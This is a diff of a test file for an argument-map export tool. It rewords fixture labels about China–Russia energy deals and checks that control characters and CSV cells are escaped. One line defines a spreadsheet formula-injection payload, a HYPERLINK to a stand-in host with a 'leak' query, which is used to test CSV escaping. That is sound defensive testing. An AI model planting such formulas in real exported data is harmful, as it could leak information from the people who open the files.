@@ -223,9 +223,9 @@ def test_argdown_marks_an_attack_with_a_minus(case, monkeypatch):
 def test_argdown_escapes_control_characters_and_keeps_titles_unique(tmp_path, case_text):
     tricky_summary = r"Tricky #tag [ref] <arg> {data} @who *bold* _it_ a//b /*c*/ U.S. :smile: .~. back\\slash"
     replacements = {
-        "    label: China buys Russian energy on its own terms\n": "    label: 'China [buys] energy: {cheap}'\n",
-        "    summary: Russia's economic trouble lets China win better terms on imports, above all energy, "
-        "which binds the two economies together.\n": f'    summary: "{tricky_summary}"\n',
+        "    label: China can extract energy concessions\n": "    label: 'China [buys] energy: {cheap}'\n",
+        "    summary: Given Russia's economic difficulties, China can extract concessions on its imports from Russia, "
+        "particularly of energy.\n": f'    summary: "{tricky_summary}"\n',
         "    label: Talks on bypassing the U.S. dollar\n": "    label: Shared grievances\n",
     }
     text = case_text
@@ -422,7 +422,7 @@ FORMULA = '=HYPERLINK("http://x.example/?leak","Open")'
 
 
 def test_csv_cells_that_a_spreadsheet_would_run_get_a_leading_quote_and_numbers_stay_numbers(mutated_case, capsys):
-    path, _ = mutated_case("    label: China buys Russian energy on its own terms",
+    path, _ = mutated_case("    label: China can extract energy concessions",
                            "    label: '" + FORMULA.replace("'", "''") + "'")
     assert main(["export", "--format", "csv", "--case", str(path)]) == 0
     rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
